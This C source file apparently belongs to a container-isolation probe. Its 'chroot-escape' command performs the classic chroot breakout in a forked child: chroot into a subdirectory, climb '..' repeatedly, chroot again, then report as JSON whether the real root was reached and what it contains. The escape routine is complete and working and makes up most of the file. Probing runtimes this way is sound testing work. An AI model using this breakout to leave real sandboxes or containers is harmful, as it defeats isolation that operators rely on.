/* try-escape.c — `try chroot-escape`: the classic chroot breakout.
 *
 * chroot(2) changes only the root used for path lookup; the cwd stays where it
 * was. A process with CAP_SYS_CHROOT that chroots into a subdirectory while
 * its cwd is outside can walk ".." up to the real root and chroot there. A
 * runtime that only chroots is escaped this way; one that pivot_roots and
 * detaches the old root leaves nothing above the container root to reach.
 *
 * The attempt runs in a forked child so the probe's own root is untouched;
 * the child reports through a pipe. "escaped" is true when "/" after the walk
 * is a different inode from "/" before it. */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#define CLIMB 64

struct escape_report {
    int err;
    char step[16]; /* the syscall that failed, "" if none */
    dev_t dev;     /* "/" after the attempt */
    ino_t ino;
};

static int write_all(int fd, const void *p, size_t n)
{
    const char *c = p;
    while (n) {
        ssize_t w = write(fd, c, n);
        if (w < 0 && errno == EINTR)
            continue;
        if (w < 0)
            return -1;
        c += w;
        n -= (size_t)w;
    }
    return 0;
}

static _Noreturn void escape_child(const char *jail, int out)
{
    struct escape_report rep = { 0 };
    struct stat st;
#define STEP(name, call)                                                                  \
    if ((call) != 0) {                                                                    \
        rep.err = errno;                                                                  \
        snprintf(rep.step, sizeof rep.step, "%s", name);                                  \
        goto report;                                                                      \
    }
    STEP("chdir", chdir("/"));         /* cwd at the old root: outside the jail */
    STEP("chroot", chroot(jail));      /* root moves down; cwd stays above it */
    for (int i = 0; i < CLIMB; i++)
        STEP("chdir", chdir(".."));    /* ".." is only stopped at the process root */
    STEP("chroot", chroot("."));       /* wherever the climb ended becomes root */
report:
    if (stat("/", &st) == 0) {
        rep.dev = st.st_dev;
        rep.ino = st.st_ino;
    }
    if (write_all(out, &rep, sizeof rep) != 0)
        _exit(1);
    DIR *d = opendir("/");
    struct dirent *e;
    while (d && (e = readdir(d)))
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
            write_all(out, e->d_name, strlen(e->d_name) + 1); /* NUL-separated */
    _exit(0);
#undef STEP
}

/* A fresh empty directory to chroot into; any subdirectory works, so fall
 * back to /proc or /dev on a read-only rootfs. */
static const char *make_jail(char *buf, size_t len, int *created)
{
    static const char *const templates[] = { "/tmp/.probe-chroot-XXXXXX", "/.probe-chroot-XXXXXX" };
    static const char *const existing[] = { "/proc", "/dev", "/sys", "/etc" };
    for (size_t i = 0; i < 2; i++) {
        snprintf(buf, len, "%s", templates[i]);
        if (mkdtemp(buf)) {
            *created = 1;
            return buf;
        }
    }
    *created = 0;
    for (size_t i = 0; i < 4; i++) {
        struct stat st;
        if (stat(existing[i], &st) == 0 && S_ISDIR(st.st_mode))
            return existing[i];
    }
    return NULL;
}

static int try_chroot_escape(char **a, int n)
{
    (void)a, (void)n;
    struct stat before;
    char jailbuf[64];
    int created = 0, fds[2];
    if (stat("/", &before) != 0)
        fatal("stat /", errno);
    const char *jail = make_jail(jailbuf, sizeof jailbuf, &created);
    if (!jail)
        fatal("no directory to chroot into", ENOENT);
    if (pipe2(fds, O_CLOEXEC) != 0)
        fatal("pipe", errno);
    pid_t pid = fork();
    if (pid < 0)
        fatal("fork", errno);
    if (pid == 0) {
        close(fds[0]);
        escape_child(jail, fds[1]);
    }
    close(fds[1]);

    /* Read the report, then the NUL-separated names, until the child exits. */
    char *data = NULL;
    size_t len = 0, cap = 0;
    for (;;) {
        if (len == cap) {
            cap = cap ? cap * 2 : 4096;
            if (!(data = realloc(data, cap)))
                fatal("chroot-escape", ENOMEM);
        }
        ssize_t r = read(fds[0], data + len, cap - len);
        if (r < 0 && errno == EINTR)
            continue;
        if (r <= 0)
            break;
        len += (size_t)r;
    }
    close(fds[0]);
    while (waitpid(pid, NULL, 0) < 0 && errno == EINTR)
        ;
    if (created)
        rmdir(jail);
    struct escape_report rep;
    if (len < sizeof rep)
        fatal("chroot-escape child died without a report", EIO);
    memcpy(&rep, data, sizeof rep);

    jf_errno(rep.err);
    jf_str("step", rep.step[0] ? rep.step : NULL);
    jf_str("jail", jail);
    jf_bool("escaped", rep.dev != before.st_dev || rep.ino != before.st_ino);
    json_key("root_before");
    json_begin_object();
    jf_uint("dev", (uint64_t)before.st_dev);
    jf_uint("ino", (uint64_t)before.st_ino);
    json_end_object();
    json_key("root_after");
    json_begin_object();
    jf_uint("dev", (uint64_t)rep.dev);
    jf_uint("ino", (uint64_t)rep.ino);
    json_end_object();

    /* names as the escaped process saw "/" */
    char **names = NULL;
    size_t count = 0;
    if (!(data = realloc(data, len + 1)))
        fatal("chroot-escape", ENOMEM);
    data[len] = 0; /* terminates a last name cut short by a dying child */
    for (size_t off = sizeof rep; off < len; off += strlen(data + off) + 1) {
        if (!(names = realloc(names, (count + 1) * sizeof *names)))
            fatal("chroot-escape", ENOMEM);
        names[count++] = data + off;
    }
    qsort(names, count, sizeof *names, cmp_strings);
    json_key("root_entries");
    json_begin_array();
    for (size_t i = 0; i < count; i++)
        json_string(names[i]);
    json_end_array();
    free(names);
    free(data);
    return 0;
}

const struct command try_escape_actions[] = {
    { "chroot-escape", 0, 0, try_chroot_escape, "" },
    { NULL, 0, 0, NULL, NULL },
};
